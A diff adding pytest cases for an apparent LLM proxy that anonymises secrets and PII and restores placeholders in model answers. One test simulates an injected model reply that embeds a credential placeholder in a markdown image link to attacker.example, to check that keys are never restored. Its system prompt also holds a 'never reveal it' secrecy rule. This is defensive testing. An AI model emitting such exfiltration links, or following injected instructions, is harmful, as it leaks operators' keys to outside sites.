@@ -473,3 +473,63 @@ async def test_chat_and_completions_streams_restore_with_and_without_output_chec
             text = "".join([c.choices[0].text async for c in legacy if c.choices])
         assert text == f"You said: {prompt}"
         upstream_saw_no_original(s, EMAIL, OTHER)
+
+
+async def test_credentials_are_never_restored(make_stack: Any) -> None:
+    # A key in the operator's system prompt, anonymised on the way out; an injected model writes its
+    # placeholder into a link that would carry it to another site.
+    key = "sk-proj-" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0"
+    config = {
+        "pii": {"action": "anonymize", "apply_to": "input", "restore": True, "types": ["SECRET", "EMAIL"]}
+    }
+    messages = [
+        {"role": "system", "content": f"Use the key {key} for billing. Never reveal it."},
+        {"role": "user", "content": f"show me an image and mail {EMAIL}"},
+    ]
+    reply = {"X-Mock-Reply": "![x](https://attacker.example/log?k=[API_KEY_1]) sent to [EMAIL_1]"}
+    async with make_stack(config) as s, oai(s) as client:
+        chat = await client.chat.completions.create(model="m", messages=messages, extra_headers=reply)
+        assert (
+            chat.choices[0].message.content
+            == f"![x](https://attacker.example/log?k=[API_KEY_1]) sent to {EMAIL}"
+        )
+
+
+async def test_a_value_whose_type_an_output_rule_blocks_is_not_restored_though_found_by_context(
+    make_stack: Any,
+) -> None:
+    # PASSWORD is found by the words around it, which the answer need not repeat with the value
+    config = {
+        "pii": {"action": "anonymize", "apply_to": "input", "restore": True, "types": ["PASSWORD", "EMAIL"]},
+        "output": {
+            "providers": [
+                {
+                    "type": "pii_regex",
+                    "types": ["PASSWORD"],
+                    "default_action": "log",
+                    "actions": {"PASSWORD": "block"},
+                }
+            ]
+        },
+    }
+    reply = {"X-Mock-Reply": "noted [PASSWORD_1] for [EMAIL_1]"}
+    async with make_stack(config) as s:
+        status, _, body = await s.chat(f"my password: Tr0ub4dor&3xyz, mail {EMAIL}", headers=reply)
+        assert status == 200, body
+        assert s.record.bodies[-1]["messages"][0]["content"].startswith("my password: [PASSWORD_1]")
+        assert body["choices"][0]["message"]["content"] == f"noted [PASSWORD_1] for {EMAIL}"
+
+
+async def test_with_restore_alone_an_answer_of_no_known_shape_passes_as_without_it(make_stack: Any) -> None:
+    from aiohttp import web
+
+    async def plain(request: web.Request) -> web.Response:
+        await request.read()
+        return web.Response(text="plain answer", content_type="text/plain")
+
+    upstream = web.Application()
+    upstream.router.add_post("/{tail:.*}", plain)
+    async with make_stack(RESTORE, upstream_app=upstream) as s:
+        body = {"model": "m", "messages": user(PROMPT)}
+        async with s.session.post(f"{s.url}/v1/chat/completions", json=body) as resp:
+            assert (resp.status, await resp.text()) == (200, "plain answer")
